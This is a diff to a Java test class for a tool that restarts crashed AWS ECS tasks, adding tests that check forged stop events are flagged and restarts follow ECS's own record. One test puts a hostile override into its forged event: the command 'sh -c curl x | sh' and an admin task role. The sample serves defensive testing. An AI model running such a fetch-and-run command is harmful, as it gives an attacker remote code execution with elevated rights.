@@ -34,7 +34,17 @@ class TaskStopDecisionTest {
     }
 
     private TaskStopPlan standalone(Diagnosis diagnosis, Map<String, String> tags, boolean restartsEnabled) {
-        return TaskStopDecision.forStandaloneTask(standalone, diagnosis, tags, restartsEnabled, count(1), LOOP);
+        return TaskStopDecision.forStandaloneTask(standalone, diagnosis, record(tags), restartsEnabled, count(1), LOOP);
+    }
+
+    /** ECS's record of the sample's stopped task, saying what the event says, with these tags; null for none. */
+    private EcsTaskRecord record(Map<String, String> tags) {
+        return tags == null ? null : record(standalone, "STOPPED", tags);
+    }
+
+    private static EcsTaskRecord record(TaskStopEvent e, String lastStatus, Map<String, String> tags) {
+        return new EcsTaskRecord(e.taskArn(), e.clusterArn(), lastStatus, e.stoppedAt(), e.taskDefinitionArn(), e.group(), e.launchType(),
+                e.capacityProviderName(), e.platformVersion(), e.subnetIds(), EcsTaskRecord.replayable(e.overrides()), tags);
     }
 
     @Test
@@ -98,7 +108,7 @@ class TaskStopDecisionTest {
     @Test
     void aCrashLoopingFamilyIsNotRestartedAgain() {
         TaskStopPlan plan = TaskStopDecision.forStandaloneTask(standalone, CRASH,
-                tags("tidewatch:restart", "on-failure"), true, count(3), LOOP);
+                record(tags("tidewatch:restart", "on-failure")), true, count(3), LOOP);
         assertNull(plan.restart());
         assertEquals(Severity.CRITICAL, plan.severity());
         assertTrue(plan.action().contains("crash-looping, 3 abnormal stops within 15 minutes"), plan.action());
@@ -162,5 +172,37 @@ class TaskStopDecisionTest {
         TaskStopPlan plan = standalone(CRASH, null, true);
         assertNull(plan.restart());
         assertTrue(plan.action().contains("restart policy is unknown"));
+    }
+
+    @Test
+    void aForgedBodyIsToldAndTheRestartIsBuiltFromEcsRecord() {
+        TaskStopEvent forged = SampleEvents.event(SampleEvents.variant("ecs-standalone-task-crashed.json", d -> {
+            d.put("taskDefinitionArn", "arn:aws:ecs:eu-west-1:123456789012:task-definition/admin-tools:1");
+            d.put("overrides", Map.of("containerOverrides", List.of(Map.of("name", "report", "command", List.of("sh", "-c", "curl x | sh"))),
+                    "taskRoleArn", "arn:aws:iam::123456789012:role/admin"));
+        }));
+        EcsTaskRecord ecs = record(standalone, "STOPPED", tags("tidewatch:restart", "on-failure:3"));
+        TaskStopPlan plan = TaskStopDecision.forStandaloneTask(forged, CRASH, ecs, true, count(1), LOOP);
+        assertEquals(standalone.taskDefinitionArn(), plan.restart().taskDefinition());
+        assertEquals(standalone.overrides(), plan.restart().overrides());
+        assertTrue(plan.tellPeople());
+        assertTrue(plan.action().contains("disagrees with ECS's record of the task on taskDefinitionArn, overrides"), plan.action());
+        assertEquals(List.of(), ecs.mismatches(standalone), "the sample's body says what ECS says");
+    }
+
+    @Test
+    void aTaskEcsReportsRunningOrStoppedAtAnotherTimeIsNotRestarted() {
+        Map<String, String> always = tags("tidewatch:restart", "always");
+        TaskStopPlan running = TaskStopDecision.forStandaloneTask(standalone, CRASH, record(standalone, "RUNNING", always), true, count(1), LOOP);
+        assertNull(running.restart());
+        assertTrue(running.tellPeople());
+        assertTrue(running.action().contains("ECS reports the task RUNNING, not STOPPED"), running.action());
+
+        TaskStopEvent otherStop = SampleEvents.event(SampleEvents.variant("ecs-standalone-task-crashed.json",
+                d -> d.put("stoppedAt", "2026-11-24T08:00:00Z")));
+        TaskStopPlan earlier = TaskStopDecision.forStandaloneTask(otherStop, CRASH, record(standalone, "STOPPED", always), true, count(1), LOOP);
+        assertNull(earlier.restart());
+        assertTrue(earlier.action().contains("ECS records the task stopped at 2026-11-24T09:41:06.512Z, not at 2026-11-24T08:00:00Z"),
+                earlier.action());
     }
 }
